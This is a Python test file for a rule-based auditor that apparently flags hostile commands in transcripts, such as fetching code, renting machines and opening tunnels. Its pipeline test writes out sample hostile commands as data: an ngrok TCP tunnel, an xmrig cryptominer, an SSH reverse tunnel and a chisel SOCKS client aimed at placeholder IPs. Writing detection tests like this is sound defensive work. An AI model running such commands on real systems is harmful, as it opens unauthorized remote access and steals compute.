"""The rules that ship, on effects alone: every transcript example, and what must hold over all of them."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import replace
from functools import cache
from pathlib import Path

from auditor.match import Matcher
from auditor.model.effect import Effect
from auditor.model.line import line_of
from auditor.model.place import Place, Span
from auditor.model.reading import Reading
from auditor.model.word import Hole, Source, Word
from auditor.rulebook.checking import rule_files
from auditor.rulebook.examples import TRANSCRIPT, read_example
from auditor.rulebook.testing import ExampleRun, run_transcripts
from auditor.rulebook.transcripts import reading_of
from auditor.settings import DEFAULT_LIMITS, shipped_rulesets

ROOT = shipped_rulesets()


@cache
def transcripts_run(*, is_skipping: bool = True) -> ExampleRun:
    return run_transcripts(ROOT, is_skipping=is_skipping)


@cache
def hostile_lines() -> tuple[str, ...]:
    """Every line of the transcript examples at which its rule fires."""
    found = []
    for file in rule_files(ROOT):
        lines = file.with_suffix(TRANSCRIPT).read_text(encoding="utf-8").splitlines()
        found += [lines[each.line - 1] for each in read_example(file.with_suffix(TRANSCRIPT)) if each.fires]
    assert len(found) > 250
    return tuple(found)


PATIENT = replace(DEFAULT_LIMITS, match_seconds=120.0)  # thousands of lines at once, on a machine that may be busy


def fired(effects: Iterable[tuple[tuple[Word, ...], ...]]) -> dict[int, set[str]]:
    """Match effects, and give the rules that fired by the effect's index."""
    placed = [Effect(stages, Place(0, Span(index + 1, 1, index + 1, 2))) for index, stages in enumerate(effects)]
    hits: dict[int, set[str]] = {}
    with Matcher(ROOT, limits=PATIENT) as matcher:
        (result,) = matcher.match_many([Reading((), tuple(placed), ())])
    assert result.gaps == ()
    for match in result.matches:
        hits.setdefault(match.place.span.line - 1, set()).add(match.rule.id)
    return hits


def words(*texts: str) -> tuple[Word, ...]:
    return tuple(Word.of(text) for text in texts)


def test_every_transcript_example_behaves_as_marked() -> None:
    run = transcripts_run()
    assert [str(problem) for problem in run.problems] == []
    assert len(run.outcomes) > 550
    assert sum(each.fired for each in run.outcomes) > 250
    assert run.known_misses == ()


def test_skipping_by_anchors_changes_nothing() -> None:
    assert transcripts_run(is_skipping=False) == transcripts_run()


def test_the_regex_of_anchors_changes_nothing(tmp_path: Path) -> None:
    """Without the line that lets Semgrep skip a rule, the same rules fire at the same lines."""
    import yaml

    from auditor.rulebook.anchors import anchor_regex

    stripped = 0
    for file in rule_files(ROOT):
        document = yaml.safe_load(file.read_text(encoding="utf-8"))
        rule = document["rules"][0]
        wanted = {"pattern-regex": anchor_regex(rule["metadata"]["auditor"]["anchors"])}
        if wanted in rule.get("patterns", []):
            rule["patterns"].remove(wanted)
            stripped += 1
        target = tmp_path / file.parent.name / file.name
        target.parent.mkdir(exist_ok=True)
        target.write_text(yaml.safe_dump(document))
    assert stripped > 50
    lines = [reading_of(file.with_suffix(TRANSCRIPT)) for file in rule_files(ROOT)]
    answers = []
    for root in (ROOT, tmp_path):
        with Matcher(root, is_skipping=False) as matcher:
            answers.append(
                [{(hit.rule.id, hit.place.span.line) for hit in result.matches} for result in matcher.match_many(lines)]
            )
    assert answers[0] == answers[1]


def test_naming_a_threat_is_not_the_threat() -> None:
    """Each hostile line, searched for, printed or committed as text, fires nothing."""
    mentions = []
    for line in hostile_lines():
        mentions += [
            (words("echo", line),),
            (words("grep", "-r", line, "."),),
            (words("git", "commit", "-m", line),),
            (words("pkill", "-f", line),),
        ]
    hits = fired(mentions)
    assert {line_of(Effect(mentions[index], Place(0, Span(1, 1, 1, 1)))): rules for index, rules in hits.items()} == {}


def test_unknown_words_alone_fire_nothing() -> None:
    """Commands of which nothing is known, and ordinary programs with unknown arguments, are silent.

    What is opaque is not: a program that comes out of something that is not followed.
    """
    opaque = {Source.NETWORK, Source.DECODER, Source.LIMIT, Source.UNKNOWN}
    holes = [Word((Hole(source, number),)) for source in Source for number in (1, 2)]
    effects = [(tuple(holes[start : start + count]),) for start in range(0, 16, 3) for count in (1, 2, 3, 4)]
    for program in (
        "ssh",
        "curl",
        "docker",
        "aws",
        "kubectl",
        "nc",
        "python",
        "git",
        "systemctl",
        "rm",
        "cp",
        "tailscale",
    ):
        effects += [((Word.of(program), *holes[:count]),) for count in (1, 2, 3)]
    heads = [stages[0][0].holes for stages in effects]
    expected = {index: {"opaque-code-run"} for index, parts in enumerate(heads) if parts and parts[0].source in opaque}
    assert fired(effects) == expected
    assert len(expected) >= 4


def test_what_is_divided_between_two_rules_is_covered_once() -> None:
    """A rented machine is an accelerator's or not, fetched code a known installer's or not: never both or none."""
    found = {}
    for file in rule_files(ROOT):
        for effect in reading_of(file.with_suffix(TRANSCRIPT)).effects:
            if effect.name in ("cloud.provision", "code.fetch"):
                found[line_of(effect)] = effect.stages
    assert len(found) > 25
    hits = fired(found.values())
    pairs = ({"accelerator-machine-rented", "machine-rented"}, {"fetched-code-run", "known-installer-run"})
    for index, line in enumerate(found):
        assert any(len(hits.get(index, set()) & pair) == 1 for pair in pairs), line


def test_pipelines_are_seen_in_every_stage() -> None:
    """A hostile program is found behind a pipe as well as before one."""
    plain = [
        words("ngrok", "tcp", "22"),
        words("/tmp/xmrig", "-o", "203.0.113.9:3333"),
        words("ssh", "-N", "-R", "2222:localhost:22", "ops@203.0.113.5"),
        words("chisel", "client", "https://203.0.113.7", "R:socks"),
        words("/tmp/x", "-o", "stratum+tcp://203.0.113.9:3333", "-u", "w"),
    ]
    alone = fired([(stage,) for stage in plain])
    assert sorted(alone) == [0, 1, 2, 3, 4]
    behind = fired([(words("true"), stage) for stage in plain])
    before = fired([(stage, words("tee", "log")) for stage in plain])
    between = fired([(words("true"), stage, words("tee", "log")) for stage in plain])
    assert behind == alone == before == between
